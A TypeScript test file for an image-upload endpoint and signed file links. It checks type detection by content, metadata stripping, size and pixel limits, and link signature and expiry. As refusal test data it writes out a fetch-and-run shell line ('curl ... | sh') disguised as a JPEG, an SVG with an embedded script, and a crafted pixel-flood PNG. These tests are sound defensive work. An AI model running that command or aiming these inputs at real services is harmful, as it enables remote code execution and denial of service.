import { crc32 } from 'node:zlib';
import { fileLinkPath } from '@tp/contract/endpoints';
import { ErrorCatalogue } from '@tp/contract/errors';
import { sql } from 'kysely';
import sharp from 'sharp';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { newDemoUser } from '../test-support/api-test-client.ts';
import {
  fetchLink,
  newRealUser,
  type TestUser,
  testJpeg,
  testPng,
  uploadImage,
} from '../test-support/funds-test-kit.ts';
import {
  marketsOpenAt,
  startTestPlatform,
  type TestPlatform,
} from '../test-support/test-platform.ts';
import { fileLinkTtlMs } from './link-signer.ts';
import { uploadBytesMax, uploadPixelsMax } from './reencode-image.ts';
import { exifHasGps } from './test-support/exif-gps.ts';

let platform: TestPlatform;
let trader: TestUser;

beforeAll(async () => {
  platform = await startTestPlatform({ rateLimitPerMinute: 100_000 });
  trader = await newRealUser(platform);
});

afterAll(async () => {
  await platform?.close();
});

afterEach(() => {
  platform.clock.set(marketsOpenAt);
});

const storedCount = async () =>
  (
    await platform.db
      .selectFrom('stored_files')
      .select(sql<number>`count(*)::int`.as('n'))
      .executeTakeFirstOrThrow()
  ).n;

/** A real PNG whose header is rewritten to claim a size that would take gigabytes to decode. */
async function pixelFloodPng(width: number, height: number): Promise<Buffer> {
  const png = Buffer.from(await testPng());
  // IHDR data starts at byte 16 (8 signature + 4 length + 4 type); its CRC follows 13 bytes.
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

async function expectRefused(bytes: Buffer, error: keyof typeof ErrorCatalogue, options = {}) {
  const before = await storedCount();
  const answer = await uploadImage(platform, trader.token, bytes, options);
  expect(answer.code, answer.msg).toBe(ErrorCatalogue[error].code);
  expect(answer.data).toBeNull();
  expect(await storedCount()).toBe(before);
  return answer;
}

describe('image_upload', () => {
  it('stores a JPEG and answers a signed link that serves it', async () => {
    const answer = await uploadImage(platform, trader.token, await testJpeg());
    expect(answer).toMatchObject({ code: 1, msg: 'Uploaded' });
    const link = new URL(answer.data.url, 'http://localhost');
    expect(link.pathname.startsWith(`${fileLinkPath}/`)).toBe(true);
    expect(link.searchParams.get('signature')).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(Number(link.searchParams.get('expires'))).toBe(
      Math.floor((marketsOpenAt.getTime() + fileLinkTtlMs) / 1000),
    );

    const served = await fetchLink(platform, answer.data.url);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['cache-control']).toBe('no-store');
    const meta = await sharp(served.rawPayload).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['jpeg', 64, 48]);

    const row = await platform.db
      .selectFrom('stored_files')
      .select(['owner_user_id', 'mime'])
      .where('id', '=', link.pathname.slice(fileLinkPath.length + 1))
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ owner_user_id: trader.userId, mime: 'image/jpeg' });
  });

  it('takes PNG and WebP, decided by content whatever the name and declared type', async () => {
    const png = await uploadImage(platform, trader.token, await testPng(), {
      filename: 'scan.jpg',
      contentType: 'image/jpeg',
    });
    expect(png.code).toBe(1);
    expect((await fetchLink(platform, png.data.url)).headers['content-type']).toBe('image/png');

    const webpBytes = await sharp(await testPng())
      .webp()
      .toBuffer();
    const webp = await uploadImage(platform, trader.token, webpBytes, { filename: 'a.gif' });
    expect(webp.code).toBe(1);
    const served = await fetchLink(platform, webp.data.url);
    expect(served.headers['content-type']).toBe('image/webp');
    expect((await sharp(served.rawPayload).metadata()).format).toBe('webp');
  });

  it('strips EXIF: a photo with a GPS position comes back without any metadata', async () => {
    const original = await testJpeg({ gps: true });
    const before = await sharp(original).metadata();
    expect(exifHasGps(before.exif)).toBe(true);
    expect(before.exif?.includes(Buffer.from('TestCam'))).toBe(true);

    const answer = await uploadImage(platform, trader.token, original);
    expect(answer.code).toBe(1);
    const served = (await fetchLink(platform, answer.data.url)).rawPayload;
    const after = await sharp(served).metadata();
    expect(after.exif).toBeUndefined();
    expect(exifHasGps(after.exif)).toBe(false);
    expect(after.xmp).toBeUndefined();
    expect(served.includes(Buffer.from('TestCam'))).toBe(false);
  });

  it('turns a photo upright by its EXIF orientation before the orientation is dropped', async () => {
    const sideways = await sharp(await testJpeg())
      .withMetadata({ orientation: 6 })
      .toBuffer();
    expect((await sharp(sideways).metadata()).orientation).toBe(6);
    const answer = await uploadImage(platform, trader.token, sideways);
    const served = await sharp((await fetchLink(platform, answer.data.url)).rawPayload).metadata();
    expect([served.width, served.height, served.orientation]).toEqual([48, 64, undefined]);
  });

  it('refuses a script named .jpg and an SVG, by content', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
    await expectRefused(script, 'uploadUnsupported', {
      filename: 'holiday.jpg',
      contentType: 'image/jpeg',
    });
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
    );
    const answer = await expectRefused(svg, 'uploadUnsupported', {
      filename: 'id.svg',
      contentType: 'image/svg+xml',
    });
    expect(answer.msg).toBe('Only JPEG, PNG and WebP images are accepted');
  });

  it('refuses a file over the size limit', async () => {
    const huge = Buffer.concat([await testJpeg(), Buffer.alloc(uploadBytesMax, 7)]);
    const answer = await expectRefused(huge, 'uploadTooLarge');
    expect(answer.msg).toBe('The image is too large: at most 8 MB');
  });

  it('refuses a pixel flood: a small file that claims more pixels than the limit', async () => {
    const flood = await pixelFloodPng(50_000, 50_000);
    expect(flood.length).toBeLessThan(1024);
    const meta = await sharp(flood, { limitInputPixels: false }).metadata();
    expect((meta.width ?? 0) * (meta.height ?? 0)).toBeGreaterThan(uploadPixelsMax);
    const answer = await expectRefused(flood, 'uploadTooManyPixels');
    expect(answer.msg).toBe('The image is too large: at most 40 megapixels');
  });

  it('refuses a damaged image with a clear message', async () => {
    const jpeg = await testJpeg();
    await expectRefused(jpeg.subarray(0, 40), 'uploadUnreadable');
  });

  it('asks for a file when there is none or it is in another field', async () => {
    await expectRefused(await testJpeg(), 'uploadMissing', { field: 'image' });
    const res = await platform.app.inject({
      method: 'POST',
      url: '/api/common/image_upload',
      headers: { lang: 'en', authorization: trader.token },
      payload: { file: 'not a file' },
    });
    expect(res.json()).toEqual({ code: 3001, msg: 'Please choose an image', data: null });
  });

  it('answers 999 without a session and refuses demo users', async () => {
    expect((await uploadImage(platform, undefined, await testJpeg())).code).toBe(999);
    const demo = await newDemoUser(platform.app);
    const answer = await uploadImage(platform, demo.token, await testJpeg());
    expect(answer).toEqual({
      code: 1102,
      msg: 'Please register or log in to a real account',
      data: null,
    });
  });
});

describe('signed file links', () => {
  let link: URL;

  beforeAll(async () => {
    link = new URL(
      (await uploadImage(platform, trader.token, await testJpeg())).data.url,
      'http://localhost',
    );
  });

  const get = (path: string) =>
    platform.app.inject({ method: 'GET', url: path, headers: { lang: 'en' } });
  const expectNotFound = async (path: string) => {
    const res = await get(path);
    expect(res.statusCode).toBe(404);
    expect(res.headers['content-type']).not.toMatch(/^image\//);
  };

  it('refuses a link without its signature or expiry', async () => {
    await expectNotFound(link.pathname);
    await expectNotFound(`${link.pathname}?expires=${link.searchParams.get('expires')}`);
    await expectNotFound(`${link.pathname}?signature=${link.searchParams.get('signature')}`);
  });

  it('refuses a forged signature and a later expiry with the old signature', async () => {
    const expires = Number(link.searchParams.get('expires'));
    const signature = link.searchParams.get('signature') ?? '';
    const forged = `${signature.slice(0, -1)}${signature.endsWith('A') ? 'B' : 'A'}`;
    await expectNotFound(`${link.pathname}?expires=${expires}&signature=${forged}`);
    await expectNotFound(`${link.pathname}?expires=${expires + 3600}&signature=${signature}`);
  });

  it('refuses another file with this file’s signature', async () => {
    const other = new URL(
      (await uploadImage(platform, trader.token, await testPng())).data.url,
      'http://localhost',
    );
    await expectNotFound(`${other.pathname}${link.search}`);
  });

  it('stops working once expired', async () => {
    expect((await get(`${link.pathname}${link.search}`)).statusCode).toBe(200);
    platform.clock.advance(fileLinkTtlMs + 1000);
    const res = await get(`${link.pathname}${link.search}`);
    expect(res.statusCode).toBe(404);
    expect(res.json()).toEqual({ code: 1002, msg: 'Not found', data: null });
  });

  it('lists nothing', async () => {
    for (const path of [fileLinkPath, `${fileLinkPath}/`, `${fileLinkPath}/../file`]) {
      const res = await get(path);
      expect(res.statusCode).toBe(404);
      expect(res.body).not.toContain(link.pathname.slice(fileLinkPath.length + 1));
    }
  });
});
